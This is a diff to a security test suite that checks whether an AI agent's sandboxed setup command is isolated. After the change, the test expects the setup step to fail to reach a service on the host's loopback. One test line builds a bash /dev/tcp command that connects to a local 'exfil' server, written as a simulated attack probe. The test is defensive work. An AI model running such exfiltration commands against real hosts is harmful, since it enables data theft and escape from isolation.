@@ -433,7 +433,7 @@ describe('attacks on the pipeline around the agent: setup and git-ignored files 
   ];
 
   attack(
-    'the setup command runs in the sandbox with the network on: not root, no host /proc, read-only root',
+    "the setup command runs in the sandbox: not root, no host /proc, read-only root, no service on the host's loopback",
     async () => {
       const probe = `/usr/local/agent-fix-setup-probe-${process.pid}`;
       const fetchCmd = `exec 3<>/dev/tcp/127.0.0.1/${(exfil.address() as AddressInfo).port} && printf 'GET /setup HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`;
@@ -448,7 +448,8 @@ describe('attacks on the pipeline around the agent: setup and git-ignored files 
         if (process.getuid?.() === 0) expect(Number(uid)).toBe(65534);
         expect(Number(processes)).toBeLessThan(10);
         expect(rest.join('\n')).not.toContain('HOST-WRITTEN');
-        expect(rest.join('\n')).toContain('EXFIL-SERVER-REACHED');
+        // setup-network (default registries) never reaches the host's own services.
+        expect(rest.join('\n')).not.toContain('EXFIL-SERVER-REACHED');
         expect(fs.existsSync(probe)).toBe(false);
         fs.rmSync(dir, { recursive: true, force: true });
       } finally {
